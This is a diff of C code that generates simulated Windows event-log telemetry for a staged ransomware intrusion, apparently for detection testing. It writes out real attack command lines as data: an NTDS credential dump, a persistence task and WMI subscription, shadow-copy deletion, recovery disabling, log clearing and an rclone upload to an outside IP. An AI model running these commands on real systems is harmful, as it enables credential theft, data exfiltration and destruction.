+            "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR", "SubjectLogonId",
+            by->logon_id, "SamAccountName", made->name, "PrimaryGroupId", "513", END);
+    gen_add(w, host, "Security", 4732, "MemberName", "-", "MemberSid", made->sid, "TargetUserName", "Administrators",
+            "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544", "SubjectUserSid", by->sid, "SubjectUserName", by->name,
+            "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, END);
 }
 
-/* -- Thursday ------------------------------------------------------------------------------------------- */
+static void take_the_domain(gen_world *w) {
+    gen_process *services = gen_running(w, GEN_DC01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
+    gen_at(w, 11, 2, 30, 11);
+    gen_logon(w, GEN_DC01, GEN_BACKUP, 3, "192.0.2.10", "HL-FILE01");
+    gen_process *wmi = gen_spawn(w, services, GEN_NETWORK_SERVICE, SYSTEM32("wbem\\WmiPrvSE.exe"), SYSTEM32("wbem\\wmiprvse.exe") " -secured -Embedding", NULL);
+    gen_process *shell = gen_spawn(w, wmi, GEN_BACKUP, SYSTEM32("cmd.exe"), "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1718073011 2>&1", TECHNIQUE("T1047", "Windows Management Instrumentation"));
+    gen_process *ntdsutil = gen_spawn(w, shell, GEN_BACKUP, SYSTEM32("ntdsutil.exe"), "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\m\" q q", TECHNIQUE("T1003.003", "NTDS"));
+    gen_sysmon(w, ntdsutil, 9, "Device", "\\Device\\HarddiskVolume3", "RuleName", TECHNIQUE("T1006", "Direct Volume Access"), END);
+    gen_file(w, ntdsutil, "C:\\ProgramData\\m\\Active Directory\\ntds.dit", TECHNIQUE("T1003.003", "NTDS"));
+    gen_exit(w, ntdsutil);
+    run(w, shell, GEN_BACKUP, SYSTEM32("net.exe"), "net  user helpdesk2 Qu4yside! /add /domain", TECHNIQUE("T1136.002", "Domain Account"));
+    add_account(w, services->host);
+    run(w, shell, GEN_BACKUP, SYSTEM32("schtasks.exe"), "schtasks /create /ru SYSTEM /sc daily /st 03:10 /tn \"\\Berth Sync\" /tr \"powershell -w hidden -f C:\\ProgramData\\b.ps1\"", TECHNIQUE("T1053.005", "Scheduled Task"));
+    const gen_user *by = &w->users[GEN_BACKUP];
+    gen_add(w, services->host, "Security", 4698, "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR",
+            "SubjectLogonId", by->logon_id, "TaskName", "\\Berth Sync", "TaskContent",
+            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Actions Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -f C:\\ProgramData\\b.ps1</Arguments></Exec></Actions>\r\n</Task>", END);
+    gen_sysmon(w, shell, 14, "EventType", "RenameKey", "TargetObject", "HKLM\\SOFTWARE\\Berth", "NewName", "HKLM\\SOFTWARE\\Quay", END);
+}
 
-static void stay_and_collect(gen_world *w, gen_process *shell) {
-    gen_at(w, 13, 9, 48, 51);
-    gen_process *powershell = gen_spawn(w, shell, GEN_SYSTEM, PS, "powershell.exe -ep bypass -f C:\\Windows\\Temp\\k.ps1", TECHNIQUE("T1059.001", "PowerShell", "Execution"));
-    gen_script(w, powershell, "$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='HLFilter'; EventNamespace='root\\cimv2'; QueryLanguage='WQL'; Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime'\"}");
-    gen_sysmon(w, powershell, 19, "RuleName", TECHNIQUE("T1546.003", "Windows Management Instrumentation Event Subscription", "Persistence"), "EventType", "WmiFilterEvent", "Operation", "Created", "EventNamespace", " \"root\\\\cimv2\"", "Name", " \"HLFilter\"", "Query", " \"SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime'\"", END);
-    gen_sysmon(w, powershell, 20, "EventType", "WmiConsumerEvent", "Operation", "Created", "Name", " \"HLConsumer\"", "Type", "Command Line", "Destination", " \"powershell.exe -w hidden -f C:\\\\Windows\\\\Temp\\\\k.ps1\"", END);
-    gen_sysmon(w, powershell, 21, "EventType", "WmiBindingEvent", "Operation", "Created", "Consumer", " \"CommandLineEventConsumer.Name=\\\"HLConsumer\\\"\"", "Filter", " \"__EventFilter.Name=\\\"HLFilter\\\"\"", END);
-    gen_exit(w, powershell);
-    gen_service(w, GEN_FILE01, GEN_BACKUP, "OneSync Helper", "C:\\ProgramData\\OneSync\\helper.exe -svc");
-    gen_set_value(w, shell, "HKLM\\System\\CurrentControlSet\\Services\\OneSync Helper\\ImagePath", "C:\\ProgramData\\OneSync\\helper.exe -svc", TECHNIQUE("T1543.003", "Windows Service", "Persistence"));
-    gen_wait(w, 900000);
-    gen_process *zip = gen_spawn(w, shell, GEN_SYSTEM, "C:\\ProgramData\\OneSync\\7za.exe", "7za.exe a -pHl!2024 -mhe C:\\ProgramData\\OneSync\\f.7z D:\\Shares\\Finance", TECHNIQUE("T1560.001", "Archive via Utility", "Collection"));
-    gen_file(w, zip, "C:\\ProgramData\\OneSync\\f.7z", NULL);
-    gen_exit(w, zip);
-    gen_process *rclone = gen_spawn(w, shell, GEN_SYSTEM, "C:\\ProgramData\\OneSync\\svchost.exe", "svchost.exe copy C:\\ProgramData\\OneSync\\f.7z box:hl --no-check-certificate", NULL);
-    for (uint32_t i = 0; i < 6; i++) {
-        gen_connect(w, rclone, "198.51.100.140", "-", 443);
-        gen_wait(w, 45000);
+/* -- Wednesday ---------------------------------------------------------------------------------------- */
+
+static void lock_files(gen_world *w, const gen_process *locker) {
+    static const char *const kinds[] = {"xlsx", "docx", "pdf", "dwg"};
+    for (unsigned i = 0; i < 160; i++) {
+        const char *file = gen_print(w, "D:\\Shares\\Finance\\2024\\invoice-%04u.%s", 100 + 7 * i, kinds[i % 4]);
+        gen_file(w, locker, gen_print(w, "%s.berthed", file), NULL);
+        gen_sysmon(w, locker, 23, "TargetFilename", file, "Hashes", gen_hashes(w, file), "IsExecutable", "false", "Archived",
+                   "true", "RuleName", TECHNIQUE("T1486", "Data Encrypted for Impact"), END);
     }
-    gen_exit(w, rclone);
-    gen_sysmon(w, shell, 28, "TargetFilename", "C:\\ProgramData\\OneSync\\f.7z", "Hashes", gen_hashes(w, "f.7z"), "IsExecutable", "false", END);
+    gen_file(w, locker, "D:\\Shares\\Finance\\HOW_TO_SAIL_AGAIN.txt", NULL);
+    gen_sysmon(w, locker, 27, "TargetFilename", "D:\\Shares\\Public\\bt2.exe", "Hashes", gen_hashes(w, "D:\\Shares\\Public\\bt2.exe"), END);
+    gen_sysmon(w, locker, 28, "TargetFilename", "D:\\Shares\\fin.rar", "Hashes", gen_hashes(w, "D:\\Shares\\fin.rar"), "IsExecutable", "false", END);
 }
 
-/* -- Friday --------------------------------------------------------------------------------------------- */
+static void clear_logs(gen_world *w, gen_process *locker) {
+    run(w, locker, GEN_SYSTEM, SYSTEM32("wevtutil.exe"), "wevtutil.exe cl Security", TECHNIQUE("T1070.001", "Clear Windows Event Logs"));
+    gen_add(w, locker->host, "Security", 1102, "SubjectUserSid", "S-1-5-18", "SubjectUserName", "SYSTEM", "SubjectDomainName",
+            "NT AUTHORITY", "SubjectLogonId", "0x3e7", END);
+    gen_add(w, locker->host, "System", 104, "SubjectUserName", "SYSTEM", "SubjectDomainName", "NT AUTHORITY", "Channel", "System", END);
+    gen_add(w, locker->host, SYSMON, 16, "Configuration", "C:\\ProgramData\\empty.xml", "ConfigurationFileHash", gen_hashes(w, "empty.xml"), END);
+    gen_add(w, locker->host, SYSMON, 255, "ID", "DriverCommunication", "Description", "Failed to retrieve events - Last error: The handle is invalid.", END);
+    gen_add(w, locker->host, SYSMON, 4, "State", "Stopped", "Version", "15.14", "SchemaVersion", "4.90", END);
+}
 
-static void destroy_backups(gen_world *w, gen_process *shell, gen_person user, const char *const *commands) {
-    static const char *const images[] = {SYSTEM32("vssadmin.exe"), SYSTEM32("wbem\\WMIC.exe"), SYSTEM32("wbadmin.exe"), SYSTEM32("bcdedit.exe"), SYSTEM32("bcdedit.exe")};
-    for (size_t i = 0; i < 5; i++) {
-        run(w, shell, user, images[i], commands[i], TECHNIQUE("T1490", "Inhibit System Recovery", "Impact"));
+static void destroy(gen_world *w) {
+    static const char *const stopped[] = {"MSSQLSERVER", "SQLWriter", "VSS", "WSearch", "BackupExecJobEngine", "wbengine"};
+    gen_process *services = gen_running(w, GEN_FILE01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
+    gen_at(w, 12, 3, 5, 2);
+    gen_process *locker = gen_spawn(w, services, GEN_SYSTEM, "C:\\ProgramData\\bt.exe", "C:\\ProgramData\\bt.exe -all", NULL);
+    gen_add(w, services->host, SYSMON, 6, "ImageLoaded", "C:\\ProgramData\\btdrv.sys", "Hashes", gen_hashes(w, "C:\\ProgramData\\btdrv.sys"),
+            "Signed", "false", "SignatureStatus", "Unavailable", END);
+    for (size_t i = 0; i < sizeof stopped / sizeof stopped[0]; i++) {
+        run(w, locker, GEN_SYSTEM, SYSTEM32("net.exe"), gen_print(w, "net stop %s /y", stopped[i]), TECHNIQUE("T1489", "Service Stop"));
+        gen_add(w, services->host, "System", 7036, "param1", stopped[i], "param2", "stopped", END);
     }
-}
-
-static void lock_files(gen_world *w, gen_process *shell, gen_person user, const char *folder) {
-    static const char *const names[] = {"Budget 2024.xlsx", "Contracts.docx", "Payroll May.xlsx", "Fleet.accdb", "Übersicht Häfen.xlsx", "Photos.zip", "Tariffs.pdf", "Minutes.docx", "Crew list.csv", "Insurance.pdf"};
-    gen_process *locker = gen_spawn(w, shell, user, "C:\\ProgramData\\OneSync\\helper.exe", gen_print(w, "helper.exe --all \"%s\"", folder), TECHNIQUE("T1486", "Data Encrypted for Impact", "Impact"));
-    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
-        const char *old = gen_print(w, "%s\\%s", folder, names[i]);
-        gen_file(w, locker, gen_print(w, "%s.harbored", old), NULL);
-        gen_sysmon(w, locker, i < 2 ? 23 : 26, "TargetFilename", old, "Hashes", gen_hashes(w, old), "IsExecutable", "false", i < 2 ? "Archived" : "RuleName", i < 2 ? "true" : "-", END);
-        gen_wait(w, 120);
-    }
-    gen_file(w, locker, gen_print(w, "%s\\README_RESTORE.txt", folder), NULL);
-    gen_exit(w, locker);
-}
-
-static void clear_logs(gen_world *w, gen_machine at, gen_process *shell, gen_person user) {
-    const gen_user *by = &w->users[user];
-    run(w, shell, user, SYSTEM32("wevtutil.exe"), "wevtutil cl Security", TECHNIQUE("T1070.001", "Clear Windows Event Logs", "Defense Evasion"));
-    gen_add(w, &w->hosts[at], "Security", 1102, "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", by->domain, "SubjectLogonId", by->logon_id, END)->pid = 1120;
-    run(w, shell, user, SYSTEM32("wevtutil.exe"), "wevtutil cl System", TECHNIQUE("T1070.001", "Clear Windows Event Logs", "Defense Evasion"));
-    gen_event *cleared = gen_add(w, &w->hosts[at], "System", 104, "SubjectUserName", by->name, "SubjectDomainName", by->domain, "Channel", "System", "BackupPath", "", END);
-    cleared->pid = 1120;
-    cleared->sid = spoor_str_from(by->sid);
-}
-
-static void impact(gen_world *w, gen_process *loader, gen_process *shell) {
-    static const char *const server[] = {"vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "wbadmin delete catalog -q", "bcdedit /set {default} bootstatuspolicy ignoreallfailures", "bcdedit /set {default} recoveryenabled no"};
-    static const char *const desk[] = {"vssadmin.exe Delete Shadows /All /Quiet", "wmic.exe shadowcopy delete", "wbadmin.exe delete catalog -quiet", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", "bcdedit.exe /set {default} recoveryenabled No"};
-    gen_at(w, 14, 3, 1, 12);
-    destroy_backups(w, shell, GEN_SYSTEM, server);
-    lock_files(w, shell, GEN_SYSTEM, "D:\\Shares\\Finance");
-    gen_at(w, 14, 3, 9, 30);
-    gen_process *local = gen_spawn(w, loader, GEN_SYSTEM, CMD, "cmd.exe /c C:\\ProgramData\\OneSync\\go.bat", NULL);
-    destroy_backups(w, local, GEN_SYSTEM, desk);
-    lock_files(w, local, GEN_SYSTEM, "C:\\Users\\ines.duarte\\Documents");
-    gen_process *cleaner = gen_spawn(w, local, GEN_SYSTEM, PS, "powershell.exe -c \"Remove-Item -Recurse -Force C:\\Users\\Public\\*.exe\"", TECHNIQUE("T1070.004", "File Deletion", "Defense Evasion"));
-    gen_script(w, cleaner, "Remove-Item -Recurse -Force C:\\Users\\Public\\*.exe");
-    gen_sysmon(w, cleaner, 26, "TargetFilename", "C:\\Users\\Public\\psexec.exe", "Hashes", gen_hashes(w, "C:\\Users\\Public\\psexec.exe"), "IsExecutable", "true", END);
-    gen_exit(w, cleaner);
-    clear_logs(w, GEN_WS01, local, GEN_SYSTEM);
-    gen_at(w, 14, 3, 22, 5);
-    clear_logs(w, GEN_FILE01, shell, GEN_BACKUP);
-    gen_add(w, shell->host, SYSMON, 16, "Configuration", "C:\\Windows\\Temp\\empty.xml", "ConfigurationFileHash", "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", END);
-    gen_add(w, shell->host, SYSMON, 255, "ID", "DriverCommunication", "Description", "Failed to retrieve events - Last error: The I/O operation has been aborted because of either a thread exit or an application request.", END);
-    run(w, shell, GEN_SYSTEM, SYSTEM32("net.exe"), "net stop Sysmon64", TECHNIQUE("T1562.001", "Disable or Modify Tools", "Defense Evasion"));
-    gen_add(w, shell->host, SYSMON, 4, "State", "Stopped", "Version", "15.14", "SchemaVersion", "4.90", END);
-    gen_add(w, shell->host, "System", 7036, "param1", "Sysmon64", "param2", "stopped", END);
+    run(w, locker, GEN_SYSTEM, SYSTEM32("vssadmin.exe"), "vssadmin.exe delete shadows /all /quiet", TECHNIQUE("T1490", "Inhibit System Recovery"));
+    run(w, locker, GEN_SYSTEM, SYSTEM32("bcdedit.exe"), "bcdedit.exe /set {default} recoveryenabled no", TECHNIQUE("T1490", "Inhibit System Recovery"));
+    lock_files(w, locker);
+    clear_logs(w, locker);
 }
 
 void gen_story(gen_world *world) {
-    gen_process *loader = open_document(world);
-    settle(world, loader);
-    steal_credentials(world, loader);
-    spray_and_roast(world);
-    gen_process *shell = move_by_service(world, loader);
-    move_by_wmi_and_rdp(world, loader);
-    stay_and_collect(world, shell);
-    impact(world, loader, shell);
+    gen_process *beacon = open_document(world);
+    call_home(world, beacon);
+    gen_process *shell = look_round(world, beacon);
+    steal_credentials(world, shell);
+    hide(world, shell);
+    try_passwords(world);
+    take_files(world);
+    take_the_domain(world);
+    destroy(world);
 }
